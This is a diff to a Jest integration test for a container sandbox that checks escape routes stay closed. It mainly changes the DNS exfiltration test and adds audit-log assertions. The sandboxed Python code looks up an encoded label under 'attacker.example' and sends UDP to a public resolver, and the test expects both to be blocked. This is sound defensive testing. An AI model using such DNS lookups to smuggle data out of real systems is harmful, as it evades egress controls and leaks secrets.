@@ -1,27 +1,33 @@
 import { randomUUID } from 'node:crypto';
 import { rmSync } from 'node:fs';
 import { createConnection } from 'node:net';
-import { EgressAuditBatcher } from '../src/egress/egress.audit';
+import { EgressAuditBatcher, type EgressBatch } from '../src/egress/egress.audit';
 import { EgressService } from '../src/egress/egress.service';
 import { CrunRuntime } from '../src/runtime/crun.runtime';
 import type { ExecRequest, ExecResult, SandboxLimits } from '../src/runtime/runtime.port';
+import { dnsProbeCode, refusedLookupRecorded } from './egress-dns.probe';
 
 /**
  * Ways out of a sandbox (agent-path.md), each a test that fails if the door opens, on the
  * real crun runtime of this machine, each sandbox in its network namespace whose only way
- * out is its egress proxy (here with no rule). The proxy's own classes (SNI ≠ CONNECT
- * target, Host, redirects, WebSocket, addresses, injection) are in egress.int.spec.ts.
+ * out is its egress proxy and its resolver (here with one rule, for a name that has no
+ * upstream). The proxy's own classes (SNI ≠ CONNECT target, Host, redirects, WebSocket,
+ * addresses, injection) are in egress.int.spec.ts.
  */
 jest.setTimeout(60_000);
 
 const LIMITS: SandboxLimits = { cpuMillis: 500, memoryMb: 128, pids: 48, workspaceMb: 16, timeoutMs: 30_000 };
 const INSTANCE = `esc${process.pid}`;
-// the sandboxes' real network: a namespace whose only way out is the egress proxy, with no rule (everything denied)
+// the sandboxes' real network: a namespace whose only way out is the egress proxy, one rule (allowed.test, no upstream)
+const batches: EgressBatch[] = [];
+const audit = new EgressAuditBatcher(async (b) => void batches.push(b), { intervalMs: 200 });
+const resolvedByProxy: string[] = [];
 const egress = new EgressService({
   instance: INSTANCE,
-  context: async () => ({ tenantId: 't', sessionId: 's', rules: [] }),
+  context: async () => ({ tenantId: 't', sessionId: 's', rules: [{ id: 'allowed', host: 'allowed.test' }] }),
   leases: { value: async () => Promise.reject(new Error('no secret here')) },
-  audit: new EgressAuditBatcher(async () => undefined),
+  audit,
+  resolve: async (name) => (resolvedByProxy.push(name), []),
 });
 const runtime = new CrunRuntime({ crun: process.env.SANDBOX_CRUN ?? 'crun', runDir: '/run/palisade-sandbox-test', instance: INSTANCE, egress });
 const A = randomUUID();
@@ -77,6 +83,7 @@ beforeAll(async () => {
 
 afterAll(async () => {
   await runtime.reconcile(new Set());
+  await audit.close();
   rmSync(`/run/palisade-sandbox-test/${INSTANCE}`, { recursive: true, force: true });
   const rows = doors.map((name) => ({ escape: name, result: closed.has(name) ? 'closed' : 'OPEN or not run' }));
   console.log(`${rows.map((r) => `${r.result.padEnd(16)} ${r.escape}`).join('\n')}\nescape_tests_passed: ${closed.size}/${doors.length}`);
@@ -114,14 +121,10 @@ describe('escapes from a sandbox', () => {
     expect(out(r)).toBe('000 exit=56\n403'); // CONNECT refused by the proxy (403), metadata refused (default deny)
   });
 
-  door('DNS resolution (and DNS exfiltration over UDP)', async () => {
-    const r = await py(`
-import socket
-try:
-    socket.getaddrinfo('data.exfil.example', 443)
-    print('resolved')
-except OSError as e:
-    print('failed')
+  door('DNS exfiltration (a lookup of <data>.attacker.example, through the resolver and straight to a public one)', async () => {
+    const exfiltrating = 'ZXhmaWx0cmF0ZWQ.attacker.example';
+    const r = await py(`${dnsProbeCode(exfiltrating)}
+${dnsProbeCode('allowed.test')}
 u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
 try:
     u.sendto(b'x', ('8.8.8.8', 53))
@@ -129,7 +132,15 @@ try:
 except OSError as e:
     print('unsent', e.errno)
 `);
-    expect(out(r)).toBe('failed\nunsent 101');
+    const hostEnd = /^http:\/\/([\d.]+):/.exec(out(await sh('echo $HTTPS_PROXY')))![1]!;
+    // refused (NXDOMAIN) by the sandbox's resolver; the allowed name is the proxy's own address; no other resolver is reachable
+    expect(out(r).split('\n')).toEqual(['failed -2', `resolved ${hostEnd}`, 'unsent 101']);
+    expect(resolvedByProxy).toEqual([]); // nothing was looked up outside: the resolver has no upstream
+    await audit.flush();
+    const refused = batches.flatMap((b) => b.decisions).filter((d) => d.stage === 'dns');
+    expect(refused).toContainEqual(expect.objectContaining({ outcome: 'denied', host: exfiltrating, rule: 'default-deny', reason: 'no rule allows the name' }));
+    expect(refusedLookupRecorded(batches, exfiltrating)).toBe(true);
+    expect(refusedLookupRecorded(batches, 'allowed.test')).toBe(false);
   });
 
   door('writes to the root filesystem', async () => {
